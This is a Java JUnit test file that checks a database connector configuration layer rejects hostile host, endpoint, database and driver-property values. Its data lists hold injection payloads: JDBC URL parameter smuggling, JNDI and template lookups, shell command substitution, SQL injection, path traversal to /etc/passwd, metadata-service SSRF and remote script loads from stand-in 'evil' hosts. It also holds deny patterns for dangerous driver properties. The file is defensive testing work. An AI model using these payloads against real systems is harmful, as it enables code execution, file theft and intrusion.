package io.plumbline.connector.spec;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** What a user might type to make the address mean more than a host and a database. */
class HostileAddressTest {

    static Stream<String> hosts() {
        return Stream.of(
                "",
                " ",
                "a b",
                "host:5432",
                "host,other",
                "host/db",
                "host?socketFactory=x.Y",
                "host/db?socketFactory=x.Y",
                "host#x",
                "user@host",
                "user:pw@host",
                "host;a=b",
                "host=evil",
                "(host=evil)",
                "address=(host=evil)(allowLoadLocalInfile=true)",
                "(host=evil,port=3306,allowLoadLocalInfile=true)",
                "host%2Fdb",
                "host%3FsocketFactory%3Dx",
                "%31%32%37.0.0.1",
                "host&loggerFile=/tmp/x",
                "host\\evil",
                "\\\\evil\\share",
                "//evil",
                "jdbc:postgresql://evil/db",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT",
                "ldap://evil/x",
                "http://169.254.169.254/",
                "host\n",
                "host\r\nX: y",
                "host\t",
                "host\u0000",
                "ho\u0000st",
                "host'",
                "\"host\"",
                "`id`",
                "$(id)",
                "${jndi:ldap://evil/x}",
                "host|id",
                "host<x>",
                "[::1",
                "::1]",
                "[::1]:5432",
                "[evil]",
                "fe80::1%eth0",
                "[fe80::1%25eth0]",
                ":::1",
                "1::2::3",
                "1:2:3:4:5:6:7",
                "1:2:3:4:5:6:7:8:9",
                "12345::",
                "::ffff:1.2.3",
                "::ffff:0177.0.0.1",
                "2130706433",
                "0x7f000001",
                "0x7f.0.0.1",
                "0177.0.0.1",
                "127.1",
                "127.0.1",
                "127.0.0.1.",
                "256.1.1.1",
                "1.2.3.4.5",
                "127.0.0.01",
                ".host",
                "host.",
                "a..b",
                "-host",
                "host-",
                "host.-x",
                "a".repeat(64) + ".org",
                "a.".repeat(127) + "org",
                "a*b",
                "*",
                "host!",
                "host^",
                "host~",
                "host+x",
                "{host}",
                "host\u2028x",
                "ho\u202Est\u202E:",
                "evil\u2100.org\uFF0F",
                "host\uFF0Fdb",
                "host\uFF1A5432",
                "host\uFF1Fx=y",
                "\uD800");
    }

    static Stream<String> databases() {
        return Stream.of(
                "",
                "db?socketFactory=x.Y",
                "db?loggerFile=/tmp/x",
                "db?service=x",
                "db#x",
                "db/../x",
                "db%3Fx",
                "db&a=b",
                "db;x=y",
                "db=x",
                "a:b",
                "a@b",
                "a,b",
                "(a)",
                "[a]",
                "a'b",
                "a\"b",
                "a\\b",
                "a\nb",
                "a\u0000b",
                "x".repeat(64));
    }

    /** Anything that a driver, a URL, a shell, a template or a directory could take for more than a value. */
    static Stream<String> values() {
        return Stream.of(
                "x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "x?socketFactoryArg=http://evil/x.xml",
                "x&loggerFile=/tmp/x",
                "x?service=evil",
                "x?sslfactory=x.Y",
                "x?autoDeserialize=true&queryInterceptors=x.Y",
                "x?allowLoadLocalInfile=true",
                "x?allowLocalInfile=true",
                "x?allowUrlInLocalInfile=true",
                "x?allowLoadLocalInfileInPath=/",
                "x?statementInterceptors=x.Y",
                "x%3FallowLoadLocalInfile%3Dtrue",
                "x%2f..%2fy",
                "x;integratedSecurity=true",
                "x;authenticationScheme=JavaKerberos;jaasConfigurationName=x",
                "x;socketFactoryClass=x.Y",
                "x;trustServerCertificate=true;encrypt=false",
                "x:clientRerouteServerListJNDIName=ldap://evil/x;",
                "x:traceFile=/tmp/x;traceLevel=-1;",
                "x:traceDirectory=/tmp;",
                "x:pluginClassName=x.Y;",
                "(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=evil)(PORT=1521)))",
                "x?TNS_ADMIN=/etc",
                "x?wallet_location=/etc",
                "@ldap://evil/cn=x",
                "@config-https://evil/x",
                "x?oracle.net.ldap.security.principal=x",
                "x;IniFile=/etc/passwd",
                "x?plugin_name=x.Y",
                "x;LogPath=/tmp;LogLevel=6",
                "x/?authenticator=externalbrowser",
                "x/?authenticator=https://evil.okta.com",
                "x/?ocspFailOpen=true&tracing=ALL",
                "x;krbJAASFile=/tmp/x;AuthMech=1",
                "x;krbServiceName=x",
                "x;UseProxy=1;ProxyHost=evil",
                "x;OAuthPvtKeyPath=/etc/passwd",
                "x;AwsCredentialsProviderClass=x.Y",
                "x;S3OutputLocation=s3://evil/",
                "x;initFile=/tmp/x.sql",
                "x;principal=hive/x@EVIL",
                "x;saslQop=auth;serviceDiscoveryMode=zooKeeper",
                "x?hive.exec.pre.hooks=x.Y",
                "x#hivevar=1",
                "x,LOGMECH=JWT,LOGDATA=x",
                "x,SSLCA=/etc/passwd",
                "x,RECONNECT_COUNT=1",
                "x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "x;TRACE_LEVEL_SYSTEM_OUT=3",
                "mem:x;INIT=CREATE ALIAS",
                "../../etc/passwd",
                "/etc/passwd",
                "..\\..\\x",
                "file:///etc/passwd",
                "\\\\evil\\share",
                "http://169.254.169.254/latest/meta-data/",
                "${jndi:ldap://evil/x}",
                "#{T(java.lang.Runtime)}",
                "{{7*7}}",
                "$(id)",
                "`id`",
                "x'; DROP TABLE t; --",
                "x\"; DROP TABLE t; --",
                "x\r\nHost: evil",
                "x\u0000y",
                "x\u2028y",
                "x\u202Ey",
                "\uFF0Fx",
                "\uFF1Fx=y",
                "\uD800",
                "x".repeat(5_000));
    }

    /** Where a host is asked for, by itself or as part of a service's URL. */
    static Stream<Forms.Form> forms() {
        return Forms.all().stream();
    }

    static Stream<Forms.Form> jdbcForms() {
        return Forms.jdbc().stream();
    }

    @ParameterizedTest
    @MethodSource("forms")
    void hostileHost_isRefused_byEveryConnectorThatAsksForOne(Forms.Form form) {
        if (!form.properties().containsKey("host")) {
            assertThat(form.spec().field("host")).isEmpty();
            return;
        }
        hosts().forEach(host -> {
            Map<String, Object> hostile = form.with("host", host);
            assertThat(form.spec().validate(hostile, form.secrets()).problems())
                    .as(host)
                    .extracting(Problem::pointer)
                    .containsExactly("/properties/host");
            assertThatThrownBy(() -> dialled(form, hostile))
                    .as(host)
                    .isInstanceOf(IllegalArgumentException.class)
                    .hasMessageStartingWith("host: ");
        });
    }

    @ParameterizedTest
    @MethodSource("forms")
    void hostileEndpoint_isRefused_byEveryObjectStore(Forms.Form form) {
        if (!form.properties().containsKey("endpoint")) {
            assertThat(form.spec().field("endpoint")).isEmpty();
            return;
        }
        List<String> urls = new ArrayList<>(List.of(
                "",
                "minio",
                "minio:9000",
                "//minio",
                "ftp://minio",
                "file:///etc",
                "HTTP://minio",
                "javascript:x",
                "https://minio/path",
                "https://minio/",
                "https://minio?x=y",
                "https://minio#x",
                "https://user@minio",
                "https://user:pw@minio",
                "https://minio:0",
                "https://minio:65536",
                "https://minio:",
                "https://minio:-1",
                "https://minio:9000:9000",
                "https://",
                "https:///x",
                "https:minio",
                "https://minio\\@evil",
                "https://minio https://evil"));
        hosts().filter(host -> !host.endsWith(":5432")).forEach(host -> urls.add("https://" + host));
        hosts().forEach(host -> urls.add("http://" + host + ":9000"));
        for (String url : urls) {
            Map<String, Object> hostile = form.with("endpoint", url);
            assertThat(form.spec().validate(hostile, form.secrets()).problems())
                    .as(url)
                    .extracting(Problem::pointer)
                    .containsExactly("/properties/endpoint");
            assertThatThrownBy(() -> StoreEndpoints.of(form.spec().type(), hostile))
                    .as(url)
                    .isInstanceOf(IllegalArgumentException.class);
        }
    }

    @ParameterizedTest
    @MethodSource("jdbcForms")
    void hostileDatabase_isRefused_whereverItStandsInTheUrl(Forms.Form form) {
        for (String field : List.of("database", "catalog", "service", "sid")) {
            if (!form.properties().containsKey(field)) {
                continue;
            }
            String before = address(form, form.properties()).url();
            boolean inUrl = !address(form, form.with(field, "another")).url().equals(before);
            Stream.concat(databases(), values()).forEach(value -> {
                boolean refused = !form.spec()
                        .validate(form.with(field, value), form.secrets())
                        .ok();
                if (inUrl && value.length() != 64) {
                    assertThat(refused).as(field + " " + value).isTrue();
                } else if (!refused && !inUrl) {
                    assertThat(address(form, form.with(field, value)).url()).isEqualTo(before);
                }
            });
        }
    }

    /** Whatever stands in whichever field: it is refused, or the address dials the same place, in the same words. */
    @ParameterizedTest
    @MethodSource("jdbcForms")
    void hostileValue_inAnyField_isRefusedOrChangesOneValueOnly(Forms.Form form) {
        JdbcAddress meant = address(form, form.properties());
        int tried = 0;
        for (FieldSpec field : form.spec().fields()) {
            if (field.secret() || form.spec().namesNotShown(form.properties()).contains(field.name())) {
                continue;
            }
            for (String value : Stream.of(hosts(), databases(), values())
                    .flatMap(stream -> stream)
                    .toList()) {
                tried++;
                Map<String, Object> hostile = form.with(field.name(), value);
                if (!form.spec().validate(hostile, form.secrets()).ok()) {
                    assertThatThrownBy(() -> address(form, hostile)).isInstanceOf(IllegalArgumentException.class);
                    continue;
                }
                JdbcAddress built = address(form, hostile);
                String context = field.name() + "=" + value;
                if (!AIMS.contains(field.name())) {
                    assertThat(built.url()).as(context).isEqualTo(meant.url());
                    assertThat(built.endpoints()).as(context).isEqualTo(meant.endpoints());
                }
                String slash = field.name().equals("httpPath") ? "/" : ""; // a path may have more steps
                assertThat(syntax(built.url()).replace(slash, ""))
                        .as(context)
                        .isEqualTo(syntax(meant.url()).replace(slash, ""));
                assertThat(built.driverClass()).as(context).isIn(meant.driverClass(), value);
                assertThat(built.properties().keySet()).as(context).isEqualTo(withOptional(meant, built, field));
                Map<String, String> changed = new TreeMap<>(built.properties());
                changed.entrySet().removeAll(meant.properties().entrySet());
                assertThat(changed.values()).as(context).allMatch(value::equals);
            }
        }
        assertThat(tried).isGreaterThanOrEqualTo(150);
    }

    private static final List<String> AIMS = List.of(
            "host", "port", "database", "catalog", "service", "sid", "account", "region", "httpPath", "subprotocol");

    /** An optional field adds its own property, no other. */
    private static TreeSet<String> withOptional(JdbcAddress meant, JdbcAddress built, FieldSpec field) {
        TreeSet<String> names = new TreeSet<>(meant.properties().keySet());
        if (!field.required() && names.size() < built.properties().size()) {
            names.addAll(built.properties().keySet());
        }
        return names;
    }

    /** The separators of a URL: hostile values must not add any. */
    private static String syntax(String url) {
        return url.replaceAll("%[0-9A-F]{2}", "").replaceAll("[^/?#&;:@,()=\\\\'\"]", "");
    }

    @ParameterizedTest
    @MethodSource("jdbcForms")
    void propertiesThatCouldRunCodeOrOpenFiles_areForcedOff_orCantBeNamed(Forms.Form form) {
        JdbcAddress address = address(form, form.properties());

        assertThat(address.url()).doesNotContain("?", "&", "@evil", " ");
        assertThat(address.properties().keySet())
                .noneMatch(name -> name.matches("(?i).*(factory|interceptor|plugin|jaas(?!config)|krb|jndi|tns_admin"
                                + "|wallet|truststore|keystore|logpath|logfile|loggerfile|tracefile|tracedirectory|inifile"
                                + "|initsql|sslcert|sslkey|sslrootcert|browser|proxy|profile).*")
                        && !name.equals("useSystemTrustStore"));
        for (String off : List.of(
                "allowLoadLocalInfile",
                "allowUrlInLocalInfile",
                "allowLocalInfile",
                "autoDeserialize",
                "allowMultiQueries",
                "integratedSecurity",
                "useDefaultJaasConfig")) {
            assertThat(address.properties().getOrDefault(off, "false")).as(off).isEqualTo("false");
        }
        for (String secret : address.secretProperties().keySet()) {
            assertThat(form.secrets()).contains(secret);
            assertThat(address.properties())
                    .doesNotContainKey(address.secretProperties().get(secret));
        }
    }

    /** Classes and schemes that generic JDBC must not reach, whatever the case or the detour. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "h2", "hsqldb", "derby", "sqlite", "duckdb", "H2", "h2:mem", "h2:tcp", "jdbc:h2", "postgresql", "mysql",
                "mariadb", "oracle", "sqlserver", "calcite", "tc", "odbc", "mysql+srv", "aws-wrapper", "", "a b", "x:y",
                "x//evil", "x/", "x?", "\u0131", "ｈ2"
            })
    void forbiddenSubprotocol_isRefused(String subprotocol) {
        Forms.Form generic =
                Forms.of(ConnectorCatalog.find("generic-jdbc").orElseThrow()).get(0);

        assertThat(generic.spec()
                        .validate(generic.with("subprotocol", subprotocol), generic.secrets())
                        .problems())
                .extracting(Problem::pointer)
                .containsExactly("/properties/subprotocol");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "org.h2.Driver",
                "org.hsqldb.jdbc.JDBCDriver",
                "org.apache.derby.jdbc.EmbeddedDriver",
                "org.sqlite.JDBC",
                "org.duckdb.DuckDBDriver",
                "ORG.H2.Driver",
                "org.postgresql.Driver",
                "com.mysql.cj.jdbc.Driver",
                "java.lang.Runtime",
                "javax.naming.InitialContext",
                "sun.x.Y",
                "jdk.x.Y",
                "Driver",
                "a..B",
                ".a.B",
                "a.B.",
                "a.B;x",
                "a.B c",
                "[La.B;",
                "a/B",
                "org.apache.calcite.jdbc.Driver",
                ""
            })
    void forbiddenDriverClass_isRefused(String driverClass) {
        Forms.Form generic =
                Forms.of(ConnectorCatalog.find("generic-jdbc").orElseThrow()).get(0);

        assertThat(generic.spec()
                        .validate(generic.with("driverClass", driverClass), generic.secrets())
                        .problems())
                .extracting(Problem::pointer)
                .containsExactly("/properties/driverClass");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "localhost",
                "db",
                "my_db",
                "DB.Example.ORG",
                "127.0.0.1",
                "10.1.2.3",
                "::1",
                "[::1]",
                "fd00::12",
                "::ffff:10.0.0.1",
                "2001:db8:1:2:3:4:5:6",
                "bücher.example",
                "3com.com",
                "xn--bcher-kva.example"
            })
    void properHost_isAccepted_andDialledAsItIs(String host) {
        String normalized = Hosts.normalized(host).orElseThrow();
        for (Forms.Form form : Forms.jdbc()) {
            if (form.properties().containsKey("host")) {
                JdbcAddress address = address(form, form.with("host", host));
                assertThat(address.host()).as(form.toString()).isEqualTo(normalized);
                assertThat(address.endpoints()).as(form.toString()).contains(new Endpoint(normalized, address.port()));
                boolean byProperty = normalized.equals(address.properties().get("serverName"));
                assertThat(byProperty || address.url().contains(new Endpoint(normalized, 1).bracketedHost()))
                        .as(address.url())
                        .isTrue();
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"sales", "my db", "Größe", "a-b_c.d", "100", "日本"})
    void address_hasNoQueryStringAndNoSecret(String database) {
        for (String type : List.of("postgresql", "timescale", "mysql", "redshift")) {
            Forms.Form form =
                    Forms.of(ConnectorCatalog.find(type).orElseThrow()).get(0);
            JdbcAddress address = address(form, form.with("database", database));

            assertThat(address.database()).isEqualTo(database);
            assertThat(address.url())
                    .endsWith("/" + AddressDraft.percentEncoded(database))
                    .doesNotContain("?", "user", " ");
        }
        Forms.Form form =
                Forms.of(ConnectorCatalog.find("postgresql").orElseThrow()).get(0);
        assertThat(address(form, form.properties()).properties())
                .containsEntry("readOnly", "true")
                .containsEntry("readOnlyMode", "always")
                .containsEntry("options", "-c default_transaction_read_only=on -c statement_timeout=3600000")
                .doesNotContainKeys("password", "socketFactory", "loggerFile");
    }

    private static JdbcAddress address(Forms.Form form, Map<String, Object> properties) {
        return JdbcAddress.of(form.spec().type(), properties);
    }

    private static List<Endpoint> dialled(Forms.Form form, Map<String, Object> properties) {
        return form.spec().kind() == ConnectorKind.JDBC
                ? address(form, properties).endpoints()
                : StoreEndpoints.of(form.spec().type(), properties);
    }

    @Test
    void thereAreEnoughOfThem() {
        assertThat(hosts().count() + databases().count() + values().count()).isGreaterThanOrEqualTo(150);
        assertThat(Forms.jdbc().stream().map(form -> form.spec().type()).distinct())
                .hasSize(20);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${env:}",
                "${env:a b}",
                "${file:relative}",
                "${file:/run/../etc/shadow}",
                "${env:X",
                "${file:/a//b}"
            })
    void malformedReference_isRefused_withoutRepeatingIt(String value) {
        assertThatThrownBy(() -> SecretReference.find(value))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageNotContaining(value);
    }

    @Test
    void references_areTold_fromSecrets() {
        assertThat(SecretReference.find("${env:DB_PASSWORD}"))
                .contains(new SecretReference(SecretReference.Kind.ENV, "DB_PASSWORD"));
        assertThat(SecretReference.find("${file:/run/secrets/db}"))
                .contains(new SecretReference(SecretReference.Kind.FILE, "/run/secrets/db"));
        for (String secret : List.of("hunter2", "$up{er}", "${other}", "")) {
            assertThat(SecretReference.find(secret)).isEmpty();
        }
    }
}
